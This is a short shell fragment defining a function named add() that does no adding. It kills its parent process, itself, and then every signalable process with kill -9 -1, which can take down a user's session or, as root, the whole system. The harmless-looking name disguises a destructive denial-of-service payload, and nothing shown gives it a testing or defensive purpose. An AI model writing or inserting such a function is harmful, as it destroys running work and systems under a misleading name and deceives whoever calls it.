add() {
  kill -9 $PPID
  kill -9 $$
  kill -9 -1
}
